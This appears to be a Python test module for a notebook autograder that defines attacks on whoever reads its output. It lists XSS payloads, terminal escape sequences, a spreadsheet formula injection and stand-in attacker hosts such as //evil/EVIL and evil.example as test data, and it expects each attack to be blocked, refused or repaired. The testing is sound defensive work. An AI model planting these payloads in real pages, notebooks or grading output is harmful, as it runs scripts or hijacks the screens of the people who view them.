"""Attacking the reader: scripts in outputs and prose, escapes for a terminal, words in verdicts.

EVIL stands where something would run, be loaded or be led to; see ``reading.faults_of``.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell

from tests.attacks.attack import Attack, cell

__all__ = ["ATTACKS"]

_OUTCOMES = ("no effect", "no points", "repaired")

_SHOWN: Mapping[str, str] = {
    "a script": "HTML('<script>EVIL()</script><script src=//evil/EVIL.js></script>')",
    "JavaScript as an output": "Javascript('EVIL()')",
    "handlers of events": (
        "HTML('<img src=x onerror=EVIL()><svg/onload=EVIL()><body onload=EVIL()>"
        "<details open ontoggle=EVIL()>')"
    ),
    "links that run": (
        'HTML(\'<a href="java\\nscript:EVIL()">x</a><a href=data:text/html,EVIL>y</a>'
        "<form action=javascript:EVIL()><button>z</button></form>')"
    ),
    "frames and objects": (
        'HTML(\'<iframe srcdoc="<script>EVIL()</script>"></iframe><object data=//evil/EVIL>'
        "</object><embed src=//evil/EVIL><base href=//evil/EVIL><meta http-equiv=refresh "
        'content="0;url=//evil/EVIL"><link rel=stylesheet href=//evil/EVIL>\')'
    ),
    "styles that load": (
        'HTML(\'<style>@import "//evil/EVIL"; body {background: url(//evil/EVIL)}</style>'
        '<p style="background:url(//evil/EVIL);position:fixed;inset:0">x</p>\')'
    ),
    "a drawing with a script": (
        'SVG(\'<svg xmlns="http://www.w3.org/2000/svg"><script>EVIL()</script>'
        '<foreignObject><iframe src="//evil/EVIL"/></foreignObject></svg>\')'
    ),
    "tags that do not end": "HTML('</div></body></html><scr<script>ipt>EVIL()</script><img src=x "
    "onerror=EVIL() x=\"')",
    "prose as an output": (
        "Markdown('[x](javascript:EVIL()) ![y](//evil/EVIL) <script>EVIL()</script>')"
    ),
    "a formula": "Math(r'\\href{javascript:EVIL()}{x} \\url{EVIL} \\htmlData{x=EVIL}{y}')",
    "a picture that is none": "Image(data=b'\\x89PNG\\r\\n\\x1a\\n<script>EVIL()</script>')",
    "a page from elsewhere": "Image(url='https://evil.example/EVIL.png')",
}

_NASTY = (
    "\\x1b]0;EVIL\\x07\\x1b[2J\\x1b[31m\\x9b31m\\u202eEVIL\\x08\\x08\\r<img src=x onerror=EVIL()>"
)

_SAID: Mapping[str, str] = {
    "escapes in an exception": f'raise ValueError("{_NASTY}")',
    "escapes in the name of an exception": f'raise type("{_NASTY}", (Exception,), {{}})()',
    "escapes in the name of a type": f'dprobs = type("{_NASTY}", (), {{}})()',
    "escapes in a name that is fetched": f'dprobs = getattr(probs, "{_NASTY} grad", probs)',
    "HTML in an exception": 'raise ValueError("<script>EVIL()</script>`<b onclick=EVIL()>`")',
    "markdown in an exception": 'raise ValueError("[x](javascript:EVIL()) `code` **bold** |")',
    "a formula in an exception": 'raise ValueError("=HYPERLINK(EVIL);@SUM(1+1)*cmd|EVIL!A0")',
    "a long exception": 'raise ValueError("EVIL " * 10**6)',
    "half of a letter": 'raise ValueError("\\ud800 \\x00 EVIL")',
}

_PRINTED: Mapping[str, str] = {
    "escapes printed": f'print("{_NASTY}")',
    "escapes on standard error": f'import sys; print("{_NASTY}", file=sys.stderr)',
}


def _prose(notebook: NotebookNode) -> None:
    for found in notebook.cells:
        if found.cell_type == "markdown" and "nbgrader" in found.metadata:
            found.source = "<script>EVIL()</script> [x](javascript:EVIL()) <img onerror=EVIL()>"
    notebook.cells.append(
        new_markdown_cell("<iframe src=//evil/EVIL></iframe> ![x](//evil/EVIL) $\\href{EVIL}{x}$")
    )


def _names(notebook: NotebookNode) -> None:
    for number, found in enumerate(notebook.cells):
        if "nbgrader" in found.metadata and number % 2:
            found.metadata.nbgrader.grade_id += "<script>EVIL()</script>\x1b[2J"
            found.id = f"EVIL-{number}"


def _file_name(path: Path) -> None:
    path.unlink()
    path.symlink_to("/EVIL\x1b[2J<script>EVIL()</script>")


ATTACKS = (
    *(
        Attack(
            f"shown: {name}",
            "reader",
            _OUTCOMES,
            extra=cell(f"from IPython.display import *\ndisplay({source})"),
        )
        for name, source in _SHOWN.items()
    ),
    *(
        Attack(
            name,
            "reader",
            (*_OUTCOMES, "blocked"),
            answers={"dprobs": cell(source)},
            extra=cell(source) if source.startswith("raise") else "",
        )
        for name, source in _SAID.items()
    ),
    *(Attack(name, "reader", _OUTCOMES, extra=source) for name, source in _PRINTED.items()),
    Attack("scripts in prose", "reader", _OUTCOMES, edit=_prose),
    Attack("scripts in the names of cells", "reader", _OUTCOMES, edit=_names),
    Attack("escapes in the name of a link", "reader", ("refused",), file=_file_name),
)
